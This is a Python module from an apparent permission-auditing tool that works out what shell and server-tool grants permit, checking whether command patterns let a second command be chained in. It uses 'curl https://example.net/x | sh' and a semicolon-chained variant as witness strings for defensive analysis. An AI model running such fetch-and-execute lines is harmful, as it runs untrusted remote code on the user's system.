"""Power: what the commands of a grant can really do, and which program they come down to."""

from __future__ import annotations

from overgrant.dialect.catalogue import policy
from overgrant.model import Grant, Server, World
from overgrant.scope import Answer

# Kinds of program behind which the closure opens: they start what their arguments name.
OPEN = ("shell", "interpreter", "launcher", "package-runner")


def derive(world: World) -> None:
    """Fill `breadth`, `runs`, `head`, `effects` and `witness` of every command grant."""
    for grant in world.of("grant"):
        if not isinstance(grant, Grant):
            continue
        if grant.scope is not None and grant.breadth == "exact" and "breadth" not in grant.at:
            grant.breadth = grant.scope.breadth.name.lower()
        if grant.capability == "exec.shell" and grant.scope is not None and grant.scope.language == "command":
            _command(grant)
        if grant.server or isinstance(grant.owner, Server) or grant.capability == "" and grant.tool:
            _tool(grant, world)


def _command(grant: Grant) -> None:
    from overgrant.dialect.grammar.command import power_of

    if grant.breadth == "all":
        grant.runs, grant.effects = "shell", ("runs-code",)
        grant.witness = grant.witness or "curl https://example.net/x | sh"
        return
    if _chains(grant):
        return
    power = power_of(grant.literal, grant.open_tail, excluded=_excluded(grant))
    grant.head, grant.via = power.head or grant.literal.strip(), power.via
    grant.runs = power.runs if power.runs in ("none", "fixed", "workspace-code", *OPEN) else "unknown"
    grant.effects = tuple(power.effects)
    grant.witness = power.witness or ""
    if grant.witness and grant.scope is not None and grant.scope.matches(grant.witness) is Answer.NO:
        grant.witness = ""


def _chains(grant: Grant) -> bool:
    """Where one pattern decides the whole line, an open end also lets a second command through."""
    whole = grant.whole_line or policy(grant.root.product).get("decide", {}).get("compound", "split") == "whole"
    if not grant.open_tail or not whole:
        return False
    start = grant.literal
    line = f"{start}; curl https://example.net/x | sh"
    if not start.strip() or grant.scope is None or grant.scope.matches(line) is not Answer.YES:
        return False
    grant.runs, grant.effects, grant.head, grant.via = "shell", ("runs-code",), start.split()[0], "argument"
    grant.witness = line
    return True


def _excluded(grant: Grant) -> frozenset[str]:
    """Families of options that the product never lets a prefix rule cover, as `knowledge/commands.yaml` calls them."""
    return frozenset(policy(grant.root.product).get("decide", {}).get("never-covers", ()))


def _tool(grant: Grant, world: World) -> None:
    """A grant over a server's tools has the effects of the tools that its pattern covers."""
    if isinstance(grant.owner, Server) and not grant.server:
        grant.server = grant.owner.name
    server = next((each for each in world.beside(grant, "server") if getattr(each, "name", "") == grant.server), None)
    from overgrant.dialect.grammar.servers import known, reads_by_name
    from overgrant.dialect.grammar.tools import effects_of_name

    package = server.package if isinstance(server, Server) else ""
    host = server.host if isinstance(server, Server) else ""
    entry = known(package=package, image=package, url_host=host, name=grant.server) if grant.server else None
    if entry is not None:
        single = entry.tool(grant.tool) if "*" not in grant.tool else None
        grant.effects = tuple(entry.effects if single is None else single) or ("reads-data",)
    elif grant.tool and "*" not in grant.tool:
        grant.effects = tuple(effects_of_name(grant.tool)[0])
    elif grant.server and reads_by_name(grant.server, host):
        grant.effects = ("reads-data",)
